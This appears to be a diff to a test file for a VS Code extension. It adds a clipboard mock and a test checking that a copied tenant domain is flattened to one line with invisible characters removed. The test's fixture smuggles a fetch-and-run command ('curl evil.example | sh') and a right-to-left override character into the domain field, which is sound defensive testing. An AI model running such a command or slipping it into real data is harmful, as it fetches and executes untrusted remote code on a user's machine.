@@ -30,6 +30,7 @@ vi.mock("vscode", async () => {
       t: (text: string, ...given: unknown[]) => text.replace(/\{(\d)\}/g, (_, n) => String(given[Number(n)])),
     },
     workspace: { workspaceFolders: [{ uri: { fsPath: "/home/alice" } }] },
+    env: { clipboard: { writeText: ask("copied") } },
     window: { showWarningMessage: ask("modal"), showSaveDialog: ask("save") },
     commands: { executeCommand: ask("command") },
   });
@@ -287,5 +288,15 @@ describe("A page that asks for many things at once", () => {
     await settle();
     expect(signIns()).toBe(1);
     expect(new Set(page.told.map(({ act }) => act))).toEqual(new Set([first, second]));
+  });
+});
+
+describe("What a page copies", () => {
+  it("is one line without anything that cannot be seen, whatever was remembered", async () => {
+    const hostile = { ...tenant(1), defaultDomain: "contoso.com\ncurl evil.example | sh\n\u202e" };
+    parts.store.setTenants(alice.id, [hostile]);
+    page.say({ type: "copy", row: rows[0], what: "domain" });
+    await settle();
+    expect(vscode.questions.map(({ what }) => what)).toEqual(["copied contoso.com curl evil.example | sh"]);
   });
 });
